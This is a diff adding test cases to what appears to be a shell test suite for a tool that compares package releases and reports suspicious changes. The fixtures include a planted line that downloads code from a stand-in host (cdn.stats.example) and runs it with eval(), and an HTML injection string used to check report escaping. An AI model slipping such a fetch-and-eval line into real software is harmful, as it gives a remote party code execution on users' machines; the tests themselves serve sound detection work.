@@ -39,6 +39,32 @@ ok 'jsonl: a line a finding' test "$(wc -l <r.jsonl)" -eq "$(node -p 'JSON.parse
 is 0 diff old.tgz old.tgz --format jsonl
 has out '"finding": null'
 
+# ---- what stood there before, beside what stands there now
+release then 1.0.0 "const first = require('./first');
+const feed = '<b onclick=one> & more';
+const last = require('./last');"
+release now 1.0.1 "const first = require('./first');
+require('https').get('https://cdn.stats.example/x', (r) => r.on('data', (d) => eval(d.toString())));
+const last = require('./last');"
+is 1 diff then.tgz now.tgz -o json=was.json -o html=was.html -o md=was.md
+has out "const feed = '<b onclick=one> & more';"
+ok 'the JSON says what stood there' node -e '
+	const f = JSON.parse(require("fs").readFileSync("was.json")).findings;
+	process.exit(f.some((x) => x.untrusted.before === "const feed = \x27<b onclick=one> & more\x27;") ? 0 : 1)'
+has was.html '<div class=sides>'
+has was.html '&lt;b onclick=one&gt; &amp; more'
+has was.md 'onclick=one'
+for f in html md; do
+	is 0 report --format $f was.json
+	same out was.$f
+done
+release more 1.0.1 "const first = require('./first');
+const feed = '<b onclick=one> & more';
+require('https').get('https://cdn.stats.example/x', (r) => r.on('data', (d) => eval(d.toString())));
+const last = require('./last');"
+is 1 diff then.tgz more.tgz -o json=more.json
+ok 'what is only new has nothing before it' test "$(grep -c '"before"' more.json)" -eq 0
+
 # ---- what is no result
 printf '{' >bad1
 printf '{"schema": "assay.diff.v1"}' >bad2
